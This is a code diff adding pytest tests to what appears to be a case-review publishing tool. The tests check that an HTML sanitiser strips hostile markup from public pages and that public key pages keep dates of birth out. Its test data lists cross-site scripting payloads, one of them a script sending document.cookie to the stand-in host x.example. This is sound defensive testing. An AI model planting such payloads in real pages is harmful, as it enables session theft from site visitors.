@@ -84,3 +84,128 @@ def test_check_reports_a_name_inside_a_data_uri_in_a_publishable_source(
     out = capsys.readouterr().out
     assert f'{SUMMARY}:{line}: error: a real name of "Child A" is written here inside a data: URI' in out
     assert "Poppy" not in out and "Fenwick" not in out
+
+
+# --- raw markup in public documents ----------------------------------------------
+HOSTILE = [
+    ("script", '<script>fetch("https://x.example/?c=" + document.cookie)</script>', "the <script> element", "<script"),
+    ("img onerror", '<img src="chart.png" onerror="alert(1)">', "the onerror attribute on <img>", "onerror"),
+    ("javascript link", "[the plan](javascript:alert(1))", "a javascript: address in the href of <a>", "javascript:"),
+    ("iframe", '<iframe src="https://x.example/"></iframe>', "the <iframe> element", "<iframe"),
+    ("object", '<object data="x.swf"></object>', "the <object> element", "<object"),
+    ("style url", '<p style="background: url(javascript:alert(1))">Note</p>', "the style attribute on <p>", "url("),
+]
+
+
+@pytest.mark.parametrize(("what", "markup", "message", "gone"), HOSTILE, ids=[h[0] for h in HOSTILE])
+def test_hostile_markup_is_removed_from_public_html(what: str, markup: str, message: str, gone: str) -> None:
+    import markdown
+
+    from casereview.sanitise import SITE_MARKDOWN_EXTENSIONS, sanitise_html
+
+    html = markdown.markdown(f"Child A was seen.\n\n{markup}\n", extensions=SITE_MARKDOWN_EXTENSIONS)
+    assert gone in html
+    cleaned = sanitise_html(html)
+    assert gone not in cleaned
+    assert "<p>Child A was seen.</p>" in cleaned
+
+
+@pytest.mark.parametrize(("what", "markup", "message", "gone"), HOSTILE, ids=[h[0] for h in HOSTILE])
+def test_check_reports_hostile_markup_in_a_publishable_document(
+    mini_project: Path, capsys, monkeypatch, what: str, markup: str, message: str, gone: str
+) -> None:
+    summary = mini_project / SUMMARY
+    text = summary.read_text() + f"\n{markup}\n"
+    summary.write_text(text)
+    line = text.splitlines().index(markup) + 1
+    monkeypatch.chdir(mini_project)
+    assert main(["check", "content"]) == 1
+    out = capsys.readouterr().out
+    assert f"{SUMMARY}:{line}: error: {message}" in out, out
+    assert "would be removed from the public page" in out
+
+
+def test_markdown_the_site_makes_is_kept_whole() -> None:
+    """Tables, abbreviations, footnotes, admonitions, details, code, attr_list ids and
+    classes, inline data images: nothing of it is removed or reported."""
+    from casereview.sanitise import markup_problems
+
+    body = (
+        "# Findings {#findings .lead}\n\nThe GP saw Child A.[^1]\n\n| When | What |\n|:--|--:|\n| 2023 | Visit |\n\n"
+        '!!! note "Panel"\n    A note.\n\n???+ warning "More"\n    Detail.\n\n```text\ncode\n```\n\n'
+        "<div markdown>**Bold**</div>\n\n![chart](chart.png){ width=300 } ![dot](data:image/png;base64,iVBORw0K)\n\n"
+        '<abbr title="General Practitioner">GP</abbr> <sup>2</sup> <span class="x">s</span>\n\n'
+        "*[GP]: General Practitioner\n\n[^1]: A footnote.\n"
+    )
+    assert markup_problems(body) == []
+
+
+def test_the_allow_list_is_written_for_the_sites_markdown_extensions() -> None:
+    import yaml
+
+    from casereview.render import MARKDOWN_EXTENSIONS
+    from casereview.sanitise import SITE_MARKDOWN_EXTENSIONS
+    from project_paths import PROJECT
+
+    config = yaml.safe_load((PROJECT / "mkdocs.yml").read_text())
+    names = [next(iter(e)) if isinstance(e, dict) else e for e in config["markdown_extensions"]]
+    assert names == SITE_MARKDOWN_EXTENSIONS == MARKDOWN_EXTENSIONS
+
+
+def test_internal_pages_are_not_sanitised(mini_project: Path) -> None:
+    from casereview.sitestate import RenderedPage, SiteState
+
+    markup = '<p>Note<iframe src="https://x.example/"></iframe></p>'
+    for audience, kept in (("internal", True), ("public", False)):
+        state = SiteState.load(mini_project / "content", audience, run_checks=False)
+        page = RenderedPage("reviews/mini-2024/executive-summary.md", "x/", "Summary", {"type": "page"}, markup)
+        assert ("<iframe" in state.finish_html(page)) is kept
+
+
+# --- the public key -----------------------------------------------------------------
+KEY = "content/reviews/mini-2024/key.yml"
+
+
+def _with_roles(project: Path, role: str, public_role: str | None) -> None:
+    key = project / KEY
+    text = key.read_text().replace("role: Mother of Child A", f'role: "{role}"')
+    if public_role is not None:
+        text = text.replace(f'role: "{role}"', f'role: "{role}"\n    public_role: "{public_role}"')
+    key.write_text(text)
+
+
+def test_public_key_never_shows_the_panels_role(mini_project: Path) -> None:
+    from casereview.pages import key_page_markdown
+    from casereview.review import load_review
+
+    _with_roles(mini_project, "Mother of Child A, born 14/02/1994", None)
+    review = load_review(mini_project / "content/reviews/mini-2024")
+    public = key_page_markdown(review, with_names=False)
+    assert "1994" not in public
+    assert "<td>Mother M</td><td>Mother of Child A</td>" in public
+    assert "14/02/1994" in key_page_markdown(review, with_names=True)
+
+
+def test_public_key_shows_public_role(mini_project: Path) -> None:
+    from casereview.pages import key_page_markdown
+    from casereview.review import load_review
+
+    _with_roles(mini_project, "Mother of Child A, born 14/02/1994", "Child A's mother")
+    review = load_review(mini_project / "content/reviews/mini-2024")
+    public = key_page_markdown(review, with_names=False)
+    assert "Child A&#x27;s mother" in public and "1994" not in public
+
+
+def test_check_reports_an_identifier_in_public_role(mini_project: Path, capsys, monkeypatch) -> None:
+    _with_roles(mini_project, "Mother of Child A", "Mother of Child A, date of birth 14/02/1994")
+    monkeypatch.chdir(mini_project)
+    assert main(["check", "content"]) == 1
+    out = capsys.readouterr().out
+    line = (
+        (mini_project / KEY)
+        .read_text()
+        .splitlines()
+        .index('    public_role: "Mother of Child A, date of birth 14/02/1994"')
+    )
+    assert f'{KEY}:{line + 1}: error: field "Mother M.public_role": a date of birth' in out, out
+    assert "14/02/1994" not in out
